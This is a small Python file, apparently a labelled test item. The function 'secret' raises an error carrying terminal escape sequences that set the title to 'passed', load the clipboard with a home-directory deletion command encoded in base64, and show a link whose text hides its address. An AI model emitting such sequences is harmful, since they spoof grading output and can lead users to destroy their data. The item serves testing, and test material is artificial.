# attack: sets the terminal's title, its clipboard, and a link that shows another address than it has
# claims: breaks
# honest: 60
# verdict: graded
# %%
def double(x):
    return 2 * x


def apply(f, x):
    return f(x) + 1


def secret(n):
    raise ValueError("\x1b]0;passed\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b]8;;https://example.org\x1b\\course page\x1b]8;;\x1b\\")
